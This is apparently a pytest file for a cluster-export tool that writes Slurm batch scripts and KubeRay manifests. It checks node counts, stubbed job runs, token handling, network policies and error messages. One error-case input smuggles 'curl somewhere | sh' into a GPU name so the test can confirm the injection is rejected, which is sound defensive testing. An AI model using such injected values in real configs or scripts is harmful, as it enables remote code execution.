"""`streamrl export`: counts of nodes, scripts that run (against stubs of Slurm and Ray), manifests that hold to their
schema, and one message on bad input."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from streamrl.config.cluster import ClusterConfig
from streamrl.config.load import load_cluster, load_run
from streamrl.config.run import RunConfig
from streamrl.errors import UserError
from streamrl.launcher.job_nodes import node_groups
from tests.cli.calling import streamrl
from tests.waiting import scaled, wait_for

SCHEMA = json.loads((Path(__file__).parent / "rayjob_schema.json").read_text())
SBATCH = {
    *("job-name", "output", "signal", "partition", "account", "time", "nodes", "ntasks-per-node", "cpus-per-task"),
    *("mem", "no-kill", "gpus-per-node"),
}
"""Options of sbatch that a script may use."""
RAY = {"backend": "ray", "address": "auto"}
SELECTORS = [text for gpu in ("H20", "H800") for text in ("--node-selector", f"{gpu}=nvidia.com/gpu.product={gpu}")]


def two_types() -> dict[str, Any]:
    """A cluster file: one site that trains on H800s and generates on H20s."""
    trainer = {"ranks": 16, "nodes": 2, "gpu": "H800", "threads": 6}
    pools = [
        {"name": "tail", "replicas": 2, "gpu": "H20", "gpus_per_replica": 4},
        {"name": "regular", "replicas": 12, "min_replicas": 4, "max_replicas": 24, "gpu": "H20"},
    ]
    site = {"launch": RAY, "trainer": trainer, "generation": pools, "rewards": {"workers": 3}}
    return {"hardware": "cuda", "sites": {"here": site}}


def one_type() -> dict[str, Any]:
    """One node with two GPUs is enough for this."""
    trainer, pools = {"ranks": 1, "gpu": "H100"}, [{"replicas": 1, "gpu": "H100"}]
    return {"hardware": "cuda", "sites": {"here": {"launch": RAY, "trainer": trainer, "generation": pools}}}


def two_sites() -> dict[str, Any]:
    train = {"launch": RAY, "trainer": {"ranks": 8, "gpu": "H800"}, "listen": "0.0.0.0", "port": 5600}
    west = {"launch": RAY, "generation": [{"replicas": 8, "gpu": "H20"}]}
    link = {"between": ["train", "west"], "bandwidth_gbit_s": 10, "rtt_ms": 20}
    return {"hardware": "cuda", "sites": {"train": train, "west": west}, "links": [link]}


def file(folder: Path, values: dict[str, Any]) -> Path:
    (folder / "cluster.yaml").write_text(yaml.safe_dump(values))
    return folder / "cluster.yaml"


class Export:
    """Calls the command."""

    def __init__(self, folder: Path, patch: pytest.MonkeyPatch, capture: pytest.CaptureFixture[str]) -> None:
        self.folder, self.patch, self.capture = folder, patch, capture

    def __call__(self, kind: str, values: dict[str, Any], *options: str) -> str:
        """What it writes."""
        code, out, error = self.tried(kind, values, *options)
        assert code == 0, error
        return out

    def tried(self, kind: str, values: dict[str, Any], *options: str) -> tuple[int, str, str]:
        """Its exit code, output, and output of errors."""
        cluster = file(self.folder, values)
        code = streamrl(self.patch, "export", "--format", kind, "--cluster", cluster, *options)
        shown = self.capture.readouterr()
        return code, shown.out, shown.err

    def kuberay(self, values: dict[str, Any], *options: str) -> dict[str, dict[str, Any]]:
        """Documents of the manifest, by kind; the RayJob holds to its schema."""
        text = self("kuberay", values, "--image", "example.org/streamrl:1", "--volume-claim", "shared", *options)
        documents: dict[str, dict[str, Any]] = {}
        for one in yaml.safe_load_all(text):
            sites = one["kind"] == "NetworkPolicy" and one["metadata"]["name"].endswith("-sites")
            documents["for sites" if sites else one["kind"]] = one
        jsonschema.validate(documents["RayJob"], SCHEMA)
        return documents


@pytest.fixture
def export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Export:
    monkeypatch.chdir(tmp_path)  # where runs/ is
    return Export(tmp_path, monkeypatch, capsys)


def components(script: str) -> list[dict[str, str]]:
    """Options of sbatch, by component."""
    found: list[dict[str, str]] = [{}]
    for line in re.findall(r"^#SBATCH (.*)$", script, re.MULTILINE):
        if line == "hetjob":
            found.append({})
        else:
            option, _, value = line.removeprefix("--").partition("=")
            assert option not in found[-1]
            found[-1][option] = value
    return found


# counts


def test_nodes_are_counted_for_each_gpu_type() -> None:
    head, trains, generates = node_groups(ClusterConfig.model_validate(two_types()), RunConfig(), "here")
    assert (head.name, head.gpus, head.ray_cpus, head.nodes, head.resources) == ("head", 0, 3, 1, {})
    assert head.cpus > head.ray_cpus
    assert (trains.gpu, trains.gpus, trains.least, trains.nodes, trains.most) == ("H800", 8, 2, 2, 2)
    assert trains.cpus == 48, "threads of all ranks"
    # 1, 2 or 2 x 4 GPUs, and 4, 12 or 24 x 1
    assert (generates.gpu, generates.gpus, generates.least, generates.nodes, generates.most) == ("H20", 8, 1, 3, 4)
    assert generates.resources == {"H20": 8}


def test_instances_span_nodes_only_where_the_file_says_so() -> None:
    values = two_types()
    values["sites"]["here"]["generation"] = [{"replicas": 3, "gpu": "H20", "gpus_per_replica": 3}]
    groups = node_groups(ClusterConfig.model_validate(values), RunConfig(), "here", gpus_per_node=8)
    assert groups[2].nodes == 2, "two with 3 GPUs on a node, though 9 GPUs are asked for"
    values["sites"]["here"]["trainer"]["nodes"] = 8
    with pytest.raises(UserError, match=r"sites\.here\.generation \(regular\) needs 3 GPUs on one node, which has 2"):
        node_groups(ClusterConfig.model_validate(values), RunConfig(), "here", gpus_per_node=2)
    values["sites"]["here"]["generation"] = [{"replicas": 3, "gpu": "H20", "gpus_per_replica": 6, "nodes": 2}]
    groups = node_groups(ClusterConfig.model_validate(values), RunConfig(), "here", gpus_per_node=8)
    assert (groups[2].gpus, groups[2].nodes) == (8, 3), "two parts with 3 GPUs on a node"
    values["sites"]["here"]["generation"][0]["replicas"] = 1
    groups = node_groups(ClusterConfig.model_validate(values), RunConfig(), "here", gpus_per_node=8)
    assert (groups[2].gpus, groups[2].nodes) == (3, 2), "its parts are never on the same node"


def test_a_small_site_asks_for_no_more_gpus_than_it_uses() -> None:
    _, group = node_groups(ClusterConfig.model_validate(one_type()), RunConfig(), "here")
    assert (group.gpus, group.nodes, group.most) == (2, 1, 1)


def test_without_gpus_cores_are_counted() -> None:
    values = one_type() | {"hardware": "cpu"}
    values["sites"]["here"] |= {
        "trainer": {"ranks": 2, "threads": 4},
        "generation": [{"replicas": 5, "threads": 2, "gpu": "H20"}],
    }
    cluster = ClusterConfig.model_validate(values)
    head, trains, generates = node_groups(cluster, RunConfig(), "here", cpus_per_node=8)
    assert (head.ray_cpus, trains.gpu, trains.gpus, trains.cpus, trains.nodes) == (1, "cpu", 0, 8, 1)
    assert trains.resources == {} and generates.resources == {"H20": 8}, "a type stays a name"
    assert (generates.cpus, generates.nodes) == (8, 2)


# Slurm


def test_a_script_has_a_component_for_each_kind_of_node(export: Export, tmp_path: Path) -> None:
    options = ["--partition", "gpu", "--partition", "head=cpu", "--gres", "H20=nvidia_h20", "--account", "lab"]
    script = export("slurm", two_types(), *options, "--time", "3-0", "--memory", "900")
    checked = subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True)
    assert checked.returncode == 0 and not checked.stderr, checked.stderr
    parts = components(script)
    assert {option for part in parts for option in part} <= SBATCH
    assert [part["nodes"] for part in parts] == ["1", "2", "4"], "as many as the pools may get"
    assert [part["partition"] for part in parts] == ["cpu", "gpu", "gpu"]
    assert [part.get("gpus-per-node") for part in parts] == [None, "h800:8", "nvidia_h20:8"]
    assert [part["mem"] for part in parts] == ["32G", "900G", "900G"]
    assert {part["time"] for part in parts} == {"3-0"} and {part["account"] for part in parts} == {"lab"}
    assert {part["ntasks-per-node"] for part in parts} == {"1"}
    first = script.index("scontrol")
    assert "#SBATCH" not in script[first:]
    assert f"#   STREAMRL_RESUME={Path('runs').resolve()}/RUN sbatch SCRIPT" in script[:first]


def test_one_kind_of_node_is_a_plain_job(export: Export) -> None:
    script = export("slurm", one_type(), "--shared-head")
    (part,) = components(script)
    assert (part["nodes"], part["gpus-per-node"]) == ("1", "2")
    assert "het-group" not in script and "HET_GROUP" not in script


def test_the_head_can_be_on_a_node_with_gpus(export: Export, tmp_path: Path) -> None:
    script = export("slurm", two_types(), "--shared-head")
    assert [(part["nodes"], part["gpus-per-node"]) for part in components(script)] == [("2", "h800:8"), ("4", "h20:8")]
    job = Started(tmp_path, script)
    assert job.end()[0] == 0
    steps = [call for call in job.calls() if call.startswith("srun")]
    assert "--nodelist=a1 ray start --head" in steps[0]
    assert "--cpus-per-task=55 " in steps[0], "48 cores to train, 3 for rewards, 4 for what Ray does not place"
    assert steps[0].endswith('--num-cpus=51 --num-gpus=8 --resources={"H800": 8}')
    (others,) = [step for step in steps[1:] if "--het-group=0" in step]
    assert "--nodes=1 --ntasks=1 --exclude=a1 ray start --address=" in others


STUBS = {
    "scontrol": 'echo "$3" | tr , "\\n"',
    "hostname": "echo 127.0.1.1 10.0.0.5",
    "sleep": "exec /bin/sleep 0.05",
    "python3": f'PYTHONPATH=$STUBS exec {sys.executable} "$@"',
    "srun": """
echo "srun $*" >>"$STUBS/calls"
for word in "$@"; do
    case $word in --nodes=*) export NODES=${word#--nodes=} ;; esac
done
while [ "${1#--}" != "$1" ]; do shift; done
exec "$@"
""",
    "ray": """
if [ "$1" = status ]; then
    [ -e "$STUBS/asked" ] && [ -s "$STUBS/nodes" ]
    code=$?
    touch "$STUBS/asked"
    exit $code
fi
case "$*" in *--head*) role=head ;; *) role=workers ;; esac
trap 'echo "ended $role" >>"$STUBS/calls"; exit 0' TERM
if [ "$role" = "${FAILS:-}" ]; then exit 3; fi
echo "ray $*" >>"$STUBS/calls"
echo "$RAY_AUTH_MODE $(stat -c %a "$RAY_AUTH_TOKEN_PATH") $(cat "$RAY_AUTH_TOKEN_PATH")" >>"$STUBS/tokens"
echo "$NODES" >>"$STUBS/nodes"
while :; do /bin/sleep 0.05; done
""",
    "streamrl": """
echo "streamrl $* at $RAY_ADDRESS" >>"$STUBS/calls"
trap 'echo "ended launch" >>"$STUBS/calls"; exit 130' TERM
while [ -n "${STAYS:-}" ]; do /bin/sleep 0.05; done
exit "${CODE:-0}"
""",
}
FAKE_RAY = """
import os, pathlib
def init(address, **options):
    assert address == os.environ["RAY_ADDRESS"], address
def nodes():
    there = (pathlib.Path(__file__).parent / "nodes").read_text().split()
    return [{"Alive": True} for count in there for _ in range(int(count))]
"""


class Started:
    """A script that runs against stubs."""

    def __init__(self, folder: Path, script: str, **env: str) -> None:
        self.folder = folder / "stubs"
        self.folder.mkdir()
        for name, text in STUBS.items():
            (self.folder / name).write_text(f"#!/bin/bash\n{text}\n")
            (self.folder / name).chmod(0o755)
        (self.folder / "ray.py").write_text(FAKE_RAY)
        (folder / "job.sh").write_text(script)
        slurm = {"SLURM_JOB_ID": "7", "SLURM_JOB_NODELIST": "a1,a2", "SLURM_JOB_NODELIST_HET_GROUP_0": "a1"}
        kept = {name: value for name, value in os.environ.items() if not name.startswith(("RAY_", "STREAMRL_"))}
        path = f"{self.folder}:{os.environ['PATH']}"
        self.process = subprocess.Popen(
            ["bash", str(folder / "job.sh")],
            env=kept | slurm | {"PATH": path, "STUBS": str(self.folder)} | env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def end(self) -> tuple[int, str]:
        """Its exit code and what it says of errors."""
        _, error = self.process.communicate(timeout=scaled(60))
        return self.process.returncode, error

    def calls(self) -> list[str]:
        path = self.folder / "calls"
        return path.read_text().splitlines() if path.exists() else []


@pytest.mark.parametrize("code", [0, 7])
def test_a_script_starts_ray_then_the_run_and_stops_all(export: Export, tmp_path: Path, code: int) -> None:
    script = export("slurm", two_types(), "--setup", "export SET_UP=yes", "--runs-dir", f"{tmp_path}/shared")
    job = Started(tmp_path, script, CODE=str(code))
    ended, error = job.end()
    assert ended == code, error
    calls = job.calls()
    steps = [call for call in calls if call.startswith("srun")]
    assert calls.index(steps[0]) == 0
    assert "--het-group=0" in steps[0] and "--nodelist=a1 ray start --head" in steps[0]
    groups = {(re.findall(r"--het-group=\d", step)[0], re.findall(r"--nodes=\d", step)[0]) for step in steps[1:]}
    assert groups == {("--het-group=1", "--nodes=2"), ("--het-group=2", "--nodes=4")}
    head, *workers = [call for call in calls if call.startswith("ray start")]
    assert "--head --node-ip-address=10.0.0.5 --port=20007" in head, "not the address of the loopback"
    assert head.endswith("--block --num-cpus=3 --num-gpus=0")
    assert all("--address=10.0.0.5:20007 --block" in call for call in workers)
    assert sorted(call.split("--num-gpus=")[1] for call in workers) == [
        '8 --resources={"H20": 8}',
        '8 --resources={"H800": 8}',
    ]
    launched = next(number for number, call in enumerate(calls) if call.startswith("streamrl"))
    files = f"--cluster {tmp_path}/cluster.yaml --runs-dir {tmp_path}/shared --plain"
    assert calls[launched] == f"streamrl launch {files} at 10.0.0.5:20007"
    assert all(calls.index(call) < launched for call in (*steps, head, *workers))
    assert sorted(calls[launched + 1 :]) == ["ended head", "ended workers", "ended workers"]


def test_every_node_gets_one_token_that_others_cannot_read_and_that_is_gone_with_the_job(
    export: Export, tmp_path: Path
) -> None:
    job = Started(tmp_path, export("slurm", two_types()))
    assert job.end()[0] == 0
    tokens = (job.folder / "tokens").read_text().splitlines()
    assert len(tokens) == 3 and len(set(tokens)) == 1
    assert re.fullmatch(r"token 600 [0-9a-f]{64}", tokens[0])
    assert list((tmp_path / "runs").iterdir()) == []


def test_without_its_token_ray_is_not_started(export: Export, tmp_path: Path) -> None:
    (tmp_path / "runs").write_text("a file, where the folder should be")
    job = Started(tmp_path, export("slurm", two_types()))
    code, error = job.end()
    assert code == 1 and "cannot write Ray's token to" in error and job.calls() == []


def test_a_script_goes_on_with_a_run(export: Export, tmp_path: Path) -> None:
    job = Started(tmp_path, export("slurm", two_types()), STREAMRL_RESUME="/shared/runs/mine")
    assert job.end()[0] == 0
    wanted = f"streamrl launch --cluster {tmp_path}/cluster.yaml --plain --resume /shared/runs/mine at"
    assert any(call.startswith(wanted) for call in job.calls())


def test_the_time_limit_ends_the_run_first(export: Export, tmp_path: Path) -> None:
    job = Started(tmp_path, export("slurm", one_type(), "--shared-head"), STAYS="yes")
    wait_for(lambda: any(call.startswith("streamrl") for call in job.calls()), 30, job.process)
    job.process.send_signal(signal.SIGTERM)
    assert job.end()[0] == 130
    assert job.calls()[-2:] == ["ended launch", "ended head"]


@pytest.mark.parametrize("role", ["head", "workers"])
def test_a_node_that_does_not_start_ends_the_job(export: Export, tmp_path: Path, role: str) -> None:
    job = Started(tmp_path, export("slurm", two_types()), FAILS=role)
    code, error = job.end()
    assert code == 1 and "a node's Ray has ended" in error
    assert not any(call.startswith("streamrl") for call in job.calls())
    assert ("ended head" in job.calls()) == (role == "workers")


def test_waiting_for_nodes_has_a_limit(export: Export, tmp_path: Path) -> None:
    script = export("slurm", two_types()).replace(" < 7)", " < 8)")
    job = Started(tmp_path, script, STREAMRL_START_S="2")
    code, error = job.end()
    assert code == 1 and "no Ray on 7 nodes within 2 s" in error
    assert job.calls().count("ended workers") == 2 and "ended head" in job.calls()


def test_a_failed_setup_line_starts_nothing(export: Export, tmp_path: Path) -> None:
    job = Started(tmp_path, export("slurm", two_types(), "--setup", "source nowhere/bin/activate"))
    assert job.end()[0] != 0 and job.calls() == []


# KubeRay


def test_a_manifest_has_a_group_for_each_gpu_type(export: Export) -> None:
    documents = export.kuberay(two_types(), *SELECTORS, "--memory", "500")
    assert list(documents) == ["ConfigMap", "RayJob", "NetworkPolicy"]
    spec = documents["RayJob"]["spec"]
    trains, generates = spec["rayClusterSpec"]["workerGroupSpecs"]
    counts = [(one["minReplicas"], one["replicas"], one["maxReplicas"]) for one in (trains, generates)]
    assert counts == [(2, 2, 2), (1, 3, 4)]
    assert spec["rayClusterSpec"]["enableInTreeAutoscaling"] is True
    assert spec["shutdownAfterJobFinishes"] is True
    # the form that Ray's autoscaler reads, and that bash turns into JSON
    given = generates["rayStartParams"]["resources"]
    assert json.loads(given[1:-1].replace("\\", "")) == {"H20": 8}
    shell = subprocess.run(["bash", "-c", f"printf %s {given}"], text=True, capture_output=True, check=True)
    assert json.loads(shell.stdout) == {"H20": 8}
    pod = generates["template"]["spec"]
    assert pod["nodeSelector"] == {"nvidia.com/gpu.product": "H20"}
    limits = pod["containers"][0]["resources"]["limits"]
    assert (limits["nvidia.com/gpu"], limits["memory"]) == ("8", "500Gi")
    head = spec["rayClusterSpec"]["headGroupSpec"]
    assert head["rayStartParams"]["num-cpus"] == "3"
    assert "nvidia.com/gpu" not in head["template"]["spec"]["containers"][0]["resources"]["limits"]


def test_pods_get_the_files_and_the_volume(export: Export, tmp_path: Path) -> None:
    (tmp_path / "run.yaml").write_text("name: mine\nsteps: 5\n")
    documents = export.kuberay(one_type(), "--run", str(tmp_path / "run.yaml"), "--runs-dir", "/data/runs")
    job, files = documents["RayJob"], documents["ConfigMap"]
    assert job["metadata"]["name"] == "mine-here"
    launch = "streamrl launch --cluster /etc/streamrl/cluster.yaml --run /etc/streamrl/run.yaml"
    assert job["spec"]["entrypoint"] == f"{launch} --runs-dir /data/runs --plain"
    for name, text in files["data"].items():
        (tmp_path / name).write_text(text)
    assert load_run(tmp_path / "run.yaml").steps == 5
    assert load_cluster(tmp_path / "cluster.yaml").security.keys == "/data/runs/keys"
    cluster = job["spec"]["rayClusterSpec"]
    assert cluster["enableInTreeAutoscaling"] is False and "autoscalerOptions" not in cluster
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        pod = group["template"]["spec"]
        mounts = {one["name"]: one["mountPath"] for one in pod["containers"][0]["volumeMounts"]}
        assert mounts == {"runs": "/data/runs", "files": "/etc/streamrl"}
        claims = {one["name"]: one for one in pod["volumes"]}
        assert claims["runs"]["persistentVolumeClaim"]["claimName"] == "shared"
        assert claims["files"]["configMap"]["name"] == files["metadata"]["name"]
    resumed = export.kuberay(one_type(), "--resume", "/data/runs/mine")
    assert resumed["RayJob"]["spec"]["entrypoint"].endswith("--plain --resume /data/runs/mine")


def test_rays_nodes_authenticate_each_other_and_only_the_runs_pods_reach_them(export: Export) -> None:
    documents = export.kuberay(two_types(), *SELECTORS)
    cluster = documents["RayJob"]["spec"]["rayClusterSpec"]
    assert cluster["authOptions"] == {"mode": "token"} and cluster["rayVersion"] >= "2.52.0"
    policy = documents["NetworkPolicy"]["spec"]
    assert policy["policyTypes"] == ["Ingress"]
    pods = policy["podSelector"]["matchLabels"]
    templates = [group["template"] for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"])]
    assert all(pods.items() <= template["metadata"]["labels"].items() for template in templates)
    name = documents["RayJob"]["metadata"]["name"]
    ((rule),) = policy["ingress"]
    who = [one["podSelector"]["matchLabels"] for one in rule["from"]]
    assert who == [pods, {"job-name": name}, {"app.kubernetes.io/name": "kuberay-operator"}]
    assert [one for one in rule["from"] if "namespaceSelector" in one] == [rule["from"][2]]
    assert "for sites" not in documents
    text = export("kuberay", two_types(), *SELECTORS, "--image", "example.org/streamrl:1", "--volume-claim", "shared")
    assert "auth_token" not in text, "a secret is the operator's, not the file's"


def test_other_sites_reach_two_ports_of_the_head_through_the_policy(export: Export) -> None:
    documents = export.kuberay(two_sites(), "--site", "train")
    policy, head = documents["for sites"]["spec"], documents["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]
    assert policy["podSelector"]["matchLabels"].items() <= head["template"]["metadata"]["labels"].items()
    assert policy["ingress"] == [{"ports": [{"port": port, "protocol": "TCP"} for port in (5600, 5601)]}]


def test_other_sites_reach_the_trainers_site_only(export: Export) -> None:
    trains = export.kuberay(two_sites(), "--site", "train")
    service, head = trains["Service"]["spec"], trains["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]
    assert service["type"] == "LoadBalancer"
    assert [port["port"] for port in service["ports"]] == [5600, 5601]
    assert service["selector"].items() <= head["template"]["metadata"]["labels"].items()
    assert "--site train" in trains["RayJob"]["spec"]["entrypoint"]
    generates = export.kuberay(two_sites(), "--site", "west")
    assert "Service" not in generates and "--site west" in generates["RayJob"]["spec"]["entrypoint"]


# errors

KUBE = ("--image", "i", "--volume-claim", "c")


def changed(values: dict[str, Any], site: str, **to: Any) -> dict[str, Any]:
    values["sites"][site] |= to
    return values


@pytest.mark.parametrize(
    ("kind", "values", "options", "said"),
    [
        ("slurm", changed(one_type(), "here", launch={}), (), r"sites\.here\.launch is .*local.*backend: ray, address"),
        (
            "slurm",
            changed(one_type(), "here", launch=RAY | {"address": "a:1"}),
            (),
            r"address: a:1.*write launch: \{backend: ray, address: auto\}",
        ),
        ("slurm", two_sites(), (), r"2 sites.*--site one of: train, west"),
        ("slurm", two_sites(), ("--site", "east"), r"--site east: no such site; sites: train, west"),
        (
            "slurm",
            changed(one_type(), "here", trainer={"ranks": 16, "gpu": "H100"}),
            (),
            r"sites\.here\.trainer needs 16 GPUs on one node, which has 8 \(--gpus-per-node\); expected nodes: 2",
        ),
        (
            "slurm",
            changed(one_type(), "here", trainer={}),
            (),
            r"sites\.here\.trainer\.gpu is 'cpu' with hardware: cuda",
        ),
        (
            "slurm",
            changed(one_type(), "here", trainer={"ranks": 1, "gpu": "H100\ncurl somewhere | sh #"}),
            (),
            r"sites\.here\.trainer\.gpu' is .*curl.*expected text that matches",
        ),
        ("slurm", one_type(), ("--cpus-per-node", "1"), r"--cpus-per-node 1: a node with 2 H100 needs 4"),
        ("slurm", one_type(), ("--time", "soon"), r"--time soon: expected"),
        ("slurm", one_type(), ("--name", "two words"), r"--name 'two words': expected letters"),
        ("slurm", one_type(), ("--runs-dir", "my runs"), r"--runs-dir 'my runs': expected"),
        ("slurm", one_type(), ("--gres", "H20=h20"), r"--gres H20=h20: expected TYPE=VALUE, with a type of: H100"),
        ("slurm", one_type(), ("--image", "x"), r"--image is not for --format slurm"),
        ("kuberay", one_type(), (*KUBE, "--time", "1:00:00"), r"--time is not for --format kuberay"),
        ("kuberay", one_type(), ("--volume-claim", "c"), r"--image is needed"),
        ("kuberay", one_type(), ("--image", "i"), r"--volume-claim is needed"),
        ("kuberay", one_type(), (*KUBE, "--runs-dir", "runs"), r"--runs-dir runs: expected an absolute path"),
        ("kuberay", one_type(), (*KUBE, "--name", "Mine"), r"--name Mine: expected"),
        ("kuberay", two_types(), KUBE, r"types H800, H20: say which nodes have H800: --node-selector"),
        ("kuberay", one_type(), (*KUBE, "--node-selector", "H100=gpu"), r"expected --node-selector TYPE=LABEL=VALUE"),
        (
            "kuberay",
            changed(two_sites(), "train", listen=""),
            (*KUBE, "--site", "train"),
            r"sites\.train\.listen is '': .*write 0\.0\.0\.0",
        ),
        ("kuberay", changed(two_sites(), "train", port=0), (*KUBE, "--site", "train"), r"sites\.train\.port: .*5600"),
    ],
)
def test_bad_input_is_one_message(
    export: Export, kind: str, values: dict[str, Any], options: tuple[str, ...], said: str
) -> None:
    code, out, error = export.tried(kind, values, *options)
    assert code == 2 and out == ""
    assert re.search(said, error), error
    assert "cluster.yaml" in error and "Traceback" not in error


def test_a_file_that_cannot_be_written_is_told(export: Export, tmp_path: Path) -> None:
    code, _, error = export.tried("slurm", one_type(), "--out", str(tmp_path / "none" / "job.sh"))
    assert code == 2 and "--out" in error and "No such file" in error


def test_the_file_holds_what_would_be_printed(export: Export, tmp_path: Path) -> None:
    printed = export("slurm", one_type())
    assert export("slurm", one_type(), "--out", str(tmp_path / "job.sh")) == ""
    assert (tmp_path / "job.sh").read_text() == printed
